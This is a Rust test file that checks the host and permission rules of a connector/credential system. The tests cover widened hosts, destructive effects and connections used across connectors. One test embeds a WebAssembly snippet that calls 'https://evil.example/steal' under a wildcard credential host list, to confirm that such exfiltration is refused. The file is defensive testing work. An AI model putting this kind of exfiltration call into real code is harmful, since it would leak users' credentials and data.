//! A connector that was replaced by one that wants more.

use serde_json::json;
use switchboard_connections::{Connections, KeySource, Method, SecretString, Service, Vault};
use switchboard_egress::Egress;
use switchboard_store::Store;
use switchboard_tests::context::TestContext;

use super::component::{HONEST, component_of, manifest};
use super::program::{call, context, run, save};

/// Keeps a connection to a service whose hosts were decided when it was made.
fn connect(context: &TestContext) {
    let store = Store::open(context.home.path()).unwrap();
    let vault = Vault::open(&store, KeySource::File(context.home.path().join("key"))).unwrap();
    let connections = Connections::open(store, vault, Egress::new().unwrap());
    let service = Service {
        connector: "zoom".into(),
        api_base: "https://api.good.example/v2".parse().unwrap(),
        oauth_base: "https://good.example/oauth".parse().unwrap(),
        authorize_path: "/a".into(),
        token_path: "/t".into(),
        revoke_path: "/r".into(),
        api_hosts: vec!["api.good.example".into()],
        credential_hosts: vec!["*.good.example".into()],
        download_hosts: Vec::new(),
        issuer: None,
        token_errors: Default::default(),
    };
    let token = SecretString::from("a-token-of-the-good-service".to_owned());
    let grant = connections.pasted_token(&token).unwrap();
    connections.save("good", Method::Token, &service, grant, None).unwrap();
}

/// H-57: the hosts that a connector lists later are not those that were approved with the connection.
#[test]
fn wider_hosts_get_nothing_from_an_old_approval() {
    let context = TestContext::new();
    connect(&context);
    let hosts = json!({"api": ["api.good.example", "evil.example"], "credential": ["*"], "download": ["evil.example"]});
    let mut wider = manifest();
    wider["hosts"] = hosts.clone();
    wider["auth"]["profiles"] = json!({"good": {
        "api_base": "https://api.good.example/v2", "oauth_base": "https://good.example/oauth", "hosts": hosts
    }});
    let steals = "(data (i32.const 50000) \"https://evil.example/steal\")
        (func $invoke (result i32) (call $get (i32.const 50000) (i32.const 26) (i32.const 0)))";
    let seen = call(&context, &save(&context, "wider", &component_of(&wider, steals)), &["--connection", "good"]);
    assert_eq!(seen.code(), "refused.host", "{}", seen.done.err);
}

/// H-57: what an activity may do is decided by the connector that is loaded, at each load.
#[test]
fn wider_effects_are_asked_for_anew() {
    let context = context();
    let with = |change: serde_json::Value| {
        let mut manifest = manifest();
        manifest["activities"][0].as_object_mut().unwrap().extend(change.as_object().unwrap().clone());
        call(&context, &save(&context, "bad", &component_of(&manifest, HONEST)), &[])
    };
    assert_eq!(with(json!({})).code(), "ok");
    let destructive = with(json!({"effect": "destructive", "idempotency": "unsafe"}));
    assert!(destructive.done.err.contains("is destructive"), "{}", destructive.done.err);
    let off = with(json!({"policy": "off"}));
    assert_eq!(off.code(), "refused.policy", "{}", off.done.err);
}

/// H-47: a connection is for the connector that it was made for.
#[test]
fn another_connector_may_not_use_a_connection() {
    let context = context();
    let mut other = manifest();
    other["connector"] = "other".into();
    let asks = "(data (i32.const 50000) \"/users/me\")
        (func $invoke (result i32)
          (call $send (i32.const 0) (i32.const 0) (i32.const 50000) (i32.const 9) (i32.const 0) (i32.const 0)
            (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 32768))
          (call $done))";
    let own = call(&context, &save(&context, "own", &component_of(&manifest(), asks)), &[]);
    assert_eq!(own.code(), "ok", "{}", own.done.err);
    let before = context.requests();
    let file = save(&context, "other", &component_of(&other, asks));
    let seen = run(&context, &["call", "other.x.go", "--connector", &file]);
    assert_eq!(seen.code(), "refused.connector", "{}", seen.done.err);
    assert_eq!(context.requests(), before);
}
